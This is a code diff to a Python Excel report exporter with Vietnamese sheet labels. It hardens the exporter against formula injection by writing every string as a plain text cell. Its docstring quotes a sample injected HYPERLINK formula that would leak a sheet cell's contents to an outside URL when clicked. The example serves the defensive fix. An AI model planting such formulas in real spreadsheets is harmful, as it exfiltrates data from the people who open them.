@@ -3,6 +3,11 @@
 Write-only mode streams rows to the file, so 10,000 tasks take seconds and little memory.
 Dates are real Excel dates (sortable, filterable), not text; every sheet has a bold, frozen
 header row with an auto-filter, which is what the secretariat does by hand otherwise.
+
+Every string is written as a text cell (inline string, data_type "s"): openpyxl would
+otherwise turn a note or plan cell starting with "=" into a live formula (a reply like
+`=HYPERLINK("http://…?leak="&D2, …)` leaks the sheet when the lead clicks) and "#N/A" into an
+error value. Setting the type keeps the text exactly as written — no apostrophe added.
 """
 from __future__ import annotations
 
@@ -21,6 +26,7 @@ from bot.service.reports.summary import CATEGORIES, LABELS, LATE, ON_TIME, ONGOI
 DATE_FMT, TIME_FMT, PCT_FMT = "DD/MM/YYYY", "DD/MM/YYYY HH:MM", "0.0%"
 _BOLD = Font(bold=True)
 _HEAD_ALIGN = Alignment(wrap_text=True, vertical="center", horizontal="center")
+_RETYPED = "=#"  # first characters openpyxl would read as a formula ("=…") or an error value ("#N/A")
 
 SUMMARY_HEAD = [("STT", 6), ("Cơ quan", 45), *((LABELS[c], 14) for c in CATEGORIES),
                 (ONGOING_LABEL, 14), ("Tổng số", 10), ("Tỷ lệ hoàn thành", 12)]
@@ -50,6 +56,8 @@ class _Sheet:
 
     def cell(self, value, *, fmt: str | None = None, bold: bool = False, align=None):
         c = WriteOnlyCell(self.ws, value=value)
+        if isinstance(value, str):
+            c.data_type = "s"  # text, whatever it starts with: never a formula or an error value
         if fmt:
             c.number_format = fmt
         if bold:
@@ -70,8 +78,10 @@ class _Sheet:
                 out.append(self.cell(v, fmt=PCT_FMT, bold=bold))
             elif v == "" or v is None:
                 out.append(None)  # skipped by the writer: an empty string would still cost a cell
+            elif bold or (isinstance(v, str) and v[0] in _RETYPED):
+                out.append(self.cell(v, bold=bold))
             else:
-                out.append(self.cell(v, bold=True) if bold else v)
+                out.append(v)  # a bare str is typed "s" by openpyxl; a cell object per value costs ~35 %
         self.ws.append(out)
         self.rows += 1
 
